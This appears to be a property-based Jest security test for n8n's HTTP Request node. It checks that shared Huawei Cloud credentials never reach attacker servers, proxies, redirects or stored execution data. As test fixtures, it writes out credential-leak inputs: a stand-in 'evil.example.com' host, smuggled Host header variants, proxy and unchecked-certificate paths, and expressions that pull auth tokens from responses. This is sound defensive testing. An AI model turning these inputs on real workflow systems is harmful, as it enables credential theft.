import dns from 'node:dns';

import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import fc from 'fast-check';
import { stringify } from 'flatted';
import type {
	ICredentialDataDecryptedObject,
	ICredentialType,
	IDataObject,
	IHttpRequestOptions,
} from 'n8n-workflow';

import { Engine } from '../../dev/n8n/engine';
import { startAttacker, type Attacker } from '../support/attacker';
import { issueCertificate } from '../support/certificates';
import { PROJECT_ID, TOKEN } from '../support/clients';
import { httpRequestNode, runOther } from '../support/credentialUse';
import { startCloud, type Cloud } from '../support/nodeRun';
import { mostly, PROPERTY_TIMEOUT_MS, runsOf } from '../support/properties';
import { urls, type Hosts } from './urlGrammar';

/**
 * The author of a workflow may use a shared credential in n8n's HTTP Request node, with any options, and wants to
 * read it. It may reach API hosts over verified connections, and nothing else: not the author's servers or proxy, nor
 * what the execution leaves behind.
 */

const SECURITY_TOKEN = 'the-security-token-of-a-temporary-key';
const CREDENTIALS: Record<string, (cloud: Cloud) => ICredentialDataDecryptedObject> = {
	token: ({ fields }) => fields,
	user: ({ userFields }) => userFields,
	key: ({ keyFields }) => keyFields(),
	temporaryKey: ({ keyFields }) => keyFields({ securityToken: SECURITY_TOKEN }),
};

let engine: Engine;
let cloud: Cloud;
let attacker: Attacker;
let credentials: Record<string, ICredentialDataDecryptedObject>;
const { lookup } = dns;

beforeAll(async () => {
	engine = await Engine.load();
	cloud = await startCloud({ tls: await issueCertificate() });
	attacker = await startAttacker(
		await issueCertificate(),
		await issueCertificate({ host: 'evil.example.com' }),
	);
	credentials = Object.fromEntries(
		Object.entries(CREDENTIALS).map(([name, fieldsOf]) => [name, fieldsOf(cloud)]),
	);
	// No name resolves outside this machine.
	const resolve = (...[, options, callback]: unknown[]) => {
		const done = typeof options === 'function' ? options : callback;
		const all = typeof options === 'object' && options !== null && 'all' in options && options.all === true;
		const found = all ? [null, [{ address: '127.0.0.1', family: 4 }]] : [null, '127.0.0.1', 4];
		if (typeof done === 'function') Reflect.apply(done, undefined, found);
	};
	Object.assign(dns, { lookup: resolve });
});

afterAll(async () => {
	// Node's modules are shared with the tests that come after this file in the same process.
	Object.assign(dns, { lookup });
	await attacker.close();
	await cloud.emulator.close();
});

/** The fields that the author can fill in, with names instead of the ports, which differ from run to run. */
interface Attack {
	credential: string;
	typeVersion: number;
	parameters: IDataObject;
	/** The service's answer to the first request. */
	answer: { status: number; location: string } | undefined;
}

const HOSTS: Hosts = {
	allowed: ['OWN', 'live.cn-north-4.myhuaweicloud.com', 'vod.cn-east-3.myhuaweicloud.com'],
	hostile: ['TLS', 'PLAIN', 'evil.example.com:EVIL', 'PROXY'],
};

const headerNames = fc.oneof(
	fc.constantFrom('Host', 'host', 'HOST', ' Host', 'hoSt ', 'host\t', ':authority'),
	fc.constantFrom('X-Auth-Token', 'x-auth-token', 'Authorization', 'X-Security-Token', 'X-Sdk-Date'),
	fc.constantFrom(
		...['Connection', 'Content-Type', 'Content-Length', 'Transfer-Encoding', 'Proxy-Authorization', 'Cookie'],
		...['Expect', '__proto__', 'constructor', 'common', 'get', 'post'],
	),
);
const headerValues = fc.constantFrom(
	...['evil.example.com', '127.0.0.1', 'x', 'close', 'chunked', '0'],
	...['multipart/form-data', 'application/x-www-form-urlencoded', 'application/json'],
);

const pairs = fc.array(fc.record({ name: headerNames, value: headerValues }), { maxLength: 3 });

const nestedHeaders = fc.dictionary(
	headerNames,
	fc.oneof<fc.Arbitrary<unknown>[]>(
		headerValues,
		fc.dictionary(headerNames, headerValues, { maxKeys: 2 }),
		fc.array(headerValues, { maxLength: 2 }),
		fc.constant(null),
	),
	{ maxKeys: 3 },
);

const headers: fc.Arbitrary<IDataObject> = fc.oneof(
	fc.constant({}),
	pairs.map((parameters) => ({ sendHeaders: true, headerParameters: { parameters } })),
	nestedHeaders.map((json) => ({
		sendHeaders: true,
		specifyHeaders: 'json',
		jsonHeaders: JSON.stringify(json),
	})),
);

const queries: fc.Arbitrary<IDataObject> = fc.oneof(
	fc.constant({}),
	pairs.map((parameters) => ({ sendQuery: true, queryParameters: { parameters } })),
	fc.constant({
		sendQuery: true,
		specifyQuery: 'json',
		jsonQuery: '{"a":[{"b":1}],"uri":"https://evil.example.com"}',
	}),
);

const bodies: fc.Arbitrary<IDataObject> = fc.oneof(
	fc.constant({}),
	fc
		.constantFrom('json', 'form-urlencoded', 'multipart-form-data')
		.chain((contentType) =>
			pairs.map((parameters) => ({ sendBody: true, contentType, bodyParameters: { parameters } })),
		),
	fc.constantFrom(
		{ sendBody: true, specifyBody: 'json', jsonBody: '{"getHeaders":1,"pipe":1,"append":1}' },
		{ sendBody: true, contentType: 'raw', rawContentType: 'multipart/form-data', body: 'x' },
		{ sendBody: true, contentType: 'raw', rawContentType: 'application/json', body: '{"a":1}' },
	),
);

const responses: fc.Arbitrary<IDataObject> = fc.record({
	responseFormat: fc.constantFrom('autodetect', 'file', 'json', 'text'),
	fullResponse: fc.boolean(),
	neverError: fc.boolean(),
});

/** Expressions that look for the request in the response. */
const prying = fc.constantFrom(
	'={{ $response.body.next }}',
	'={{ $response.body.req ? $response.body.req.getHeader("X-Auth-Token") + $response.body.req.getHeader("X-Security-Token") : "" }}',
	'={{ JSON.stringify($response) }}',
	'={{ JSON.stringify($request) }}',
	'={{ $request.headers ? $request.headers["X-Auth-Token"] : "" }}',
);

const paginations: fc.Arbitrary<IDataObject> = fc
	.record({
		limitPagesFetched: fc.constant(true),
		maxRequests: fc.constant(2),
		paginationCompleteWhen: fc.constant('other'),
		completeExpression: fc.constant('={{ false }}'),
		mode: fc.oneof(
			fc
				.oneof(prying, urls(HOSTS))
				.map((nextURL) => ({ paginationMode: 'responseContainsNextURL', nextURL })),
			fc
				.record({
					type: fc.constantFrom('qs', 'headers', 'body'),
					name: headerNames,
					value: fc.oneof(prying, headerValues),
				})
				.map((parameter) => ({
					paginationMode: 'updateAParameterInEachRequest',
					parameters: { parameters: [parameter] },
				})),
		),
	})
	.map(({ mode, ...rest }) => ({ ...rest, ...mode }));

/** A value, or now and then none. */
const maybe = <Value>(value: fc.Arbitrary<Value>, freq = 6) => fc.option(value, { nil: undefined, freq });
const PROXIES = 'http://PROXY http://user:pass@PROXY https://TLS HTTP://PROXY socks5://PROXY PROXY'.split(
	' ',
);

const options: fc.Arbitrary<IDataObject> = fc
	.record({
		redirect: maybe(fc.constant({ redirect: { followRedirects: true, maxRedirects: 5 } })),
		proxy: maybe(fc.constantFrom(...PROXIES)),
		allowUnauthorizedCerts: maybe(fc.boolean(), 2),
		lowercaseHeaders: maybe(fc.boolean()),
		sendCredentialsOnCrossOriginRedirect: maybe(fc.boolean()),
		response: maybe(responses.map((response) => ({ response }))),
		pagination: maybe(
			paginations.map((pagination) => ({ pagination })),
			1,
		),
		queryParameterArrays: maybe(fc.constantFrom('brackets', 'indices', 'repeat')),
		timeout: fc.constant(2000),
	})
	.map((chosen) => Object.fromEntries(Object.entries(chosen).filter(([, value]) => value !== undefined)));

const attacks: fc.Arbitrary<Attack> = fc
	.record({
		credential: fc.constantFrom(...Object.keys(CREDENTIALS)),
		typeVersion: fc.constantFrom(3, 4, 4.1, 4.2, 4.3, 4.4, 4.5),
		method: fc.constantFrom('GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'HEAD', 'OPTIONS'),
		url: fc.oneof(fc.constant(`https://OWN/v1/${PROJECT_ID}/pull/stream/task`), urls(HOSTS)),
		parts: fc.tuple(headers, queries, bodies),
		options,
		provideSslCertificates: mostly(false, fc.constant(true)),
		answer: maybe(
			fc.record({ status: fc.constantFrom(301, 302, 303, 307, 308, 401, 500), location: urls(HOSTS) }),
		),
	})
	.map(({ credential, typeVersion, answer, parts, ...parameters }) => ({
		credential,
		typeVersion,
		answer,
		parameters: Object.assign({}, parameters, ...parts),
	}));

/** The ports of this run instead of their names. */
function withPorts<Value>(value: Value): Value {
	const { tls, evil, plain, proxy } = attacker.ports;
	const text = JSON.stringify(value)
		.replaceAll('OWN', `127.0.0.1:${cloud.emulator.port}`)
		.replaceAll('TLS', `127.0.0.1:${tls}`)
		.replaceAll('PLAIN', `127.0.0.1:${plain}`)
		.replaceAll('PROXY', `127.0.0.1:${proxy}`)
		.replaceAll('EVIL', String(evil));
	return JSON.parse(text);
}

/** Everything that the author can read: what reached their servers, and what the execution leaves behind. */
async function spoilsOf(attack: Attack): Promise<{ received: string; left: string; isServed: boolean }> {
	const { credential, typeVersion, parameters, answer } = withPorts(attack);
	cloud.emulator.faults.clear();
	cloud.emulator.calls.length = 0;
	if (answer) {
		const { status, location } = answer;
		const headers = /^[\x20-\x7e]*$/.test(location) ? { location } : {};
		cloud.emulator.faults.add({ path: '/v1/', mishap: { kind: 'answer', status, headers, body: {} } });
	}
	const request = httpRequestNode(parameters, {
		typeVersion,
		onError: 'continueRegularOutput',
		credentials: { huaweiCloudApi: { id: '1', name: credential }, httpSslAuth: { id: '2', name: 'ssl' } },
	});
	const run = await runOther(engine, request, {
		credentials: { ...credentials, ssl: { ca: 'a certificate authority of the author' } },
	});
	return {
		received: attacker.received(),
		// As n8n stores it.
		left: stringify(run),
		isServed: cloud.emulator.calls.some(({ url }) => url.startsWith('/v1/')),
	};
}

const secrets = () => [
	TOKEN,
	SECURITY_TOKEN,
	...Object.values(credentials).flatMap(({ password, secretAccessKey }) =>
		[password, secretAccessKey].filter((secret) => typeof secret === 'string' && secret !== ''),
	),
	...cloud.emulator.world.tokens.keys(),
];

/** Ways to leak a careless credential. */
const WAYS: Array<[name: string, parameters: IDataObject, answer: Attack['answer']]> = [
	['his own server', { url: 'https://TLS/' }, undefined],
	['his own server without TLS', { url: 'http://PLAIN/' }, undefined],
	[
		'his own proxy',
		{ url: 'http://live.cn-north-4.myhuaweicloud.com/', options: { proxy: 'http://PROXY' } },
		undefined,
	],
	['a redirect', { url: 'https://OWN/v1/x' }, { status: 302, location: 'https://TLS/' }],
	[
		'a certificate that is not checked',
		{
			url: 'https://live.cn-north-4.myhuaweicloud.com/',
			options: { proxy: 'http://PROXY', allowUnauthorizedCerts: true },
		},
		undefined,
	],
];

const LIVE_URL = 'https://live.cn-north-4.myhuaweicloud.com/v1/p/pull/stream/task';
const hostHeaders = (...names: string[]) => ({
	sendHeaders: true,
	headerParameters: { parameters: names.map((name) => ({ name, value: 'evil.example.com' })) },
});
const withResponse = (responseFormat: string) => ({
	options: { response: { response: { responseFormat, neverError: true } } },
});

/** Ways that were found one by one: hosts of the author's own certificate, and what responses keep of a request. */
const FOUND: IDataObject[] = [
	...['Host', ' Host', 'hoSt '].map((name) => ({
		...{ url: LIVE_URL, options: { proxy: 'http://PROXY' } },
		...hostHeaders(name),
	})),
	...['common', 'get', 'GET'].map((nest) => ({
		...{ url: LIVE_URL, options: { proxy: 'http://PROXY' }, sendHeaders: true, specifyHeaders: 'json' },
		jsonHeaders: JSON.stringify({ [nest]: { 'Host ': 'evil.example.com', ' host': 'evil.example.com' } }),
	})),
	{ url: 'https://OWN/v1/x', ...withResponse('file') },
	{
		...{ url: 'https://OWN/v1/x', method: 'POST', sendBody: true, contentType: 'raw' },
		...{ rawContentType: 'text/plain', body: 'x', ...withResponse('text') },
	},
];

const KNOWN = [
	...WAYS.map(([, parameters, answer]) => ({ parameters, answer })),
	...FOUND.map((parameters) => ({ parameters, answer: undefined })),
].flatMap(({ parameters, answer }): Array<[Attack]> =>
	Object.keys(CREDENTIALS).map((credential) => [{ credential, typeVersion: 4.2, parameters, answer }]),
);

test(
	'whatever the author fills in, the secret reaches an API host over a checked connection, or nobody',
	async () => {
		let served = 0;
		await fc.assert(
			fc.asyncProperty(attacks, async (attack) => {
				const { received, left, isServed } = await spoilsOf(attack);
				served += Number(isServed);
				for (const secret of secrets()) {
					expect(received).not.toContain(String(secret));
					expect(left).not.toContain(String(secret));
				}
				expect(received).not.toMatch(/Signature=/);
			}),
			{ ...runsOf(150), examples: KNOWN },
		);
		// Otherwise it would hold for an unusable credential.
		expect(served).toBeGreaterThan(0);
	},
	PROPERTY_TIMEOUT_MS,
);

describe('the judge', () => {
	/** A credential that is added to any request. */
	const careless = {
		name: 'huaweiCloudApi',
		displayName: 'Careless',
		properties: [],
		authenticate: async (_fields: ICredentialDataDecryptedObject, given: IHttpRequestOptions) => ({
			...given,
			headers: { ...given.headers, 'X-Auth-Token': TOKEN },
		}),
	} satisfies ICredentialType;

	test.each(WAYS)('sees what a careless credential gives away to %s', async (_way, parameters, answer) => {
		const spy = jest.spyOn(engine, 'credentialType').mockReturnValue(careless);
		const { received } = await spoilsOf({ credential: 'token', typeVersion: 4.2, parameters, answer });
		spy.mockRestore();
		expect(received).toContain(TOKEN);
	});
});
